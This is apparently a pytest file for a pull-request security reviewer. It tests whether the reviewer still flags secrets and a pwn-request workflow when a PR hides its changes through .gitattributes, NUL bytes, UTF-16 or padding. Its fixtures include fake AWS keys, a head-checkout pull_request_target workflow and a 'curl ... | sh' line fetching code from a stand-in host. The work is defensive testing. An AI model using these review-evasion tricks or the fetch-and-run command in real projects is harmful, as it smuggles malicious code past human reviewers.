"""A pull request that steers git with its own files must not blind the review floor.

The attack (issue 42, item 1): the PR adds ``.gitattributes`` with ``* binary`` (or ``* -diff``,
or a diff driver the runner's config makes binary or textconv'd), a committed AWS key and a
``pull_request_target`` workflow that checks out the head. The review runs in the PR's checkout,
so git read the PR's attributes and every file became "Binary files differ": no finding, exit 0.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.git_builder import GitRepoBuilder
from tests.harness.action_runner import parse_github_output
from tests.helpers.cli import run_cli

AWS_KEY = "AKIA" + "QWERTYUIOPASDFGH"
WORKFLOW = """\
on: pull_request_target
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: make
"""

HOSTILE = {
    "binary": "* binary\n",
    "minus-diff": "* -diff\n",
    "driver": "* diff=hide\n",
}


def _attack(tmp_path: Path, attributes: str) -> tuple[GitRepoBuilder, str, str]:
    builder = GitRepoBuilder(tmp_path / "repo")
    # What a runner's own configuration may hold: a driver that hides text, read only when an
    # attribute names it. The PR's `.gitattributes` names it for every file.
    builder.git("config", "diff.hide.binary", "true")
    builder.git("config", "diff.hide.textconv", "sed d")
    builder.git("config", "diff.hide.command", "true")
    base = builder.commit(
        "base",
        {
            ".gitattributes": "*.dat -diff\n",
            "src/app.py": "def main():\n    return 0\n",
            "logo.png": b"\x89PNG\0\0\0",
            "table.dat": "1 2 3\n",
        },
    )
    head = builder.commit(
        "add deploy",
        {
            ".gitattributes": "*.dat -diff\n" + attributes,
            "table.dat": "1 2 3 4\n",
            "src/app.py": f"def main():\n    key = '{AWS_KEY}'\n    return 0\n",
            ".github/workflows/build.yml": WORKFLOW,
            "logo.png": b"\x89PNG\0\0\1",
        },
    )
    return builder, base, head


def _review(
    tmp_path: Path, builder: GitRepoBuilder, base: str, head: str
) -> tuple[int, dict[str, str], str]:
    (tmp_path / "out").touch()
    (tmp_path / "summary").touch()
    environ = {
        "GITHUB_OUTPUT": str(tmp_path / "out"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        "RUNNER_TEMP": str(tmp_path),
    }
    argv = ["review", "--repo", str(builder.path), "--base", base, "--head", head,
            "--provider", "none", "--fail-on", "high"]  # fmt: skip
    done = run_cli(argv, tmp_path, environ, on_runner=False)
    outputs = parse_github_output((tmp_path / "out").read_text())
    return done.code, outputs, (tmp_path / "summary").read_text()


@pytest.mark.parametrize("attributes", HOSTILE.values(), ids=HOSTILE.keys())
def test_pr_attributes_do_not_hide_the_changed_lines(tmp_path: Path, attributes: str) -> None:
    builder, base, head = _attack(tmp_path, attributes)
    code, outputs, summary = _review(tmp_path, builder, base, head)

    assert code == 1, summary
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    rules = {result["ruleId"] for result in sarif["runs"][0]["results"]}
    assert "cicd-agent/secret" in rules
    assert "cicd-agent/workflow-pwn-request" in rules
    assert "cicd-agent/git-settings" in rules
    assert int(outputs["critical_count"]) >= 1
    # The summary's list of binary files is the base's view: the image by its bytes, the table
    # by the base's `-diff`; the code and the workflow are text, whatever the PR's lines say.
    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
    assert "`logo.png` (binary)" in listed and "`table.dat` (binary)" in listed
    assert "src/app.py" not in listed and "build.yml" not in listed


NUL_HIDDEN = {
    "script": ("build.sh", f"#!/bin/sh\n#\0\ncurl -s https://x.example/i | sh\nK={AWS_KEY}\n"),
    "key-file": ("deploy/keys.env", f"AWS_ACCESS_KEY_ID={AWS_KEY}\n\0"),
    "changed": ("src/app.py", f"def main():\n    key = '{AWS_KEY}'\n    return 0\n# \0\n"),
}


@pytest.mark.parametrize("path, text", NUL_HIDDEN.values(), ids=NUL_HIDDEN.keys())
def test_a_nul_byte_does_not_hide_a_text_file(tmp_path: Path, path: str, text: str) -> None:
    """git calls a file binary for one NUL byte when no attribute decides: the pull request
    chose which of its files no rule read. Text with a stray NUL is read as text; a real
    binary (the image) and what the base's ``-diff`` marks stay binary."""
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit(
        "base", {"src/app.py": "def main():\n    return 0\n", "logo.png": b"\x89PNG\0\0\0"}
    )
    head = builder.commit("hide", {path: text, "logo.png": b"\x89PNG\0\0\2"})
    code, outputs, summary = _review(tmp_path, builder, base, head)

    assert code == 1, summary
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    assert any(
        result["ruleId"] == "cicd-agent/secret"
        and result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == path
        for result in sarif["runs"][0]["results"]
    )
    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
    assert "`logo.png` (binary)" in listed and path not in listed


LEFT_HIDDEN = {
    # PowerShell runs a UTF-16 script as readily as a UTF-8 one; git calls it binary.
    "utf-16-script": ("deploy.ps1", f"\ufeff$k = '{AWS_KEY}'\r\n".encode("utf-16-le")),
    # Past the bytes read to tell text from binary (1 MiB), a stray NUL still hides a file.
    "padded": ("dist/app.js", ("//\0\n" + "x\n" * 600_000 + f"k='{AWS_KEY}'\n").encode()),
}


@pytest.mark.parametrize("path, data", LEFT_HIDDEN.values(), ids=LEFT_HIDDEN.keys())
def test_text_git_calls_binary_is_still_read(tmp_path: Path, path: str, data: bytes) -> None:
    """Attack: a UTF-16 script, or a NUL past the bytes read to tell text from binary: the
    diff shows "Binary files differ" and no rule read the key. The file stays binary in the
    diff shown; the secret rules read its added text from the blobs."""
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit("base", {"src/app.py": "def main():\n    return 0\n"})
    head = builder.commit("hide", {path: data})
    code, outputs, summary = _review(tmp_path, builder, base, head)
    assert code == 1, summary
    assert _secret_paths(outputs) == {path}


def _secret_paths(outputs: dict[str, str]) -> set[str]:
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    return {
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for result in sarif["runs"][0]["results"]
        if result["ruleId"] == "cicd-agent/secret"
    }


def test_the_bases_minus_diff_hides_a_file_from_the_diff_never_from_the_secret_rules(
    tmp_path: Path,
) -> None:
    """Attack: the base marks ``*.min.js -diff`` (a usual line for minified bundles); the pull
    request adds a key to one. The diff shows it binary, as GitHub does, and no rule read it.
    The key is found, on its line; the key the base already held in its bundle is not this
    change's, and the file is still listed as binary."""
    old_key = "AKIA" + "ZXCVBNMLKJHGFDSA"
    builder = GitRepoBuilder(tmp_path / "repo")
    base = builder.commit(
        "base",
        {
            ".gitattributes": "*.min.js -diff\n",
            "dist/app.min.js": f"var a=1;var k='{old_key}';\n",
        },
    )
    head = builder.commit(
        "bundle",
        {"dist/app.min.js": f"var a=1;var k='{old_key}';\nvar b='{AWS_KEY}';\n"},
    )
    code, outputs, summary = _review(tmp_path, builder, base, head)
    assert code == 1, summary
    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
    lines = [
        result["locations"][0]["physicalLocation"]["region"]["startLine"]
        for result in sarif["runs"][0]["results"]
        if result["ruleId"] == "cicd-agent/secret"
    ]
    assert lines == [2], sarif["runs"][0]["results"]
    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
    assert "`dist/app.min.js` (binary)" in listed
    assert AWS_KEY not in summary
